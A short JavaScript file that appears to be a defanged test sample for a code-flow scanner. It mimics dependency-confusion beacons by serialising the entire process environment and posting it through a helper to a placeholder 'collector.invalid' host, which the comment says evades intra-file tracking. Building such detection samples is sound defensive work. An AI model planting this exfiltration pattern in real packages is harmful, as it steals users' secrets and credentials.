// Mimics the dependency-confusion beacons (Birsan 2021 and copycats): the whole environment is
// serialised and posted through a helper, a hop intra-file flow tracking does not follow.
// Defanged: .invalid host.
const https = require('https');
const send = (data) => {
  const req = https.request({ hostname: 'collector.invalid', method: 'POST', path: '/env' });
  req.end(data);
};
const snapshot = () => JSON.stringify(process.env);
send(snapshot());
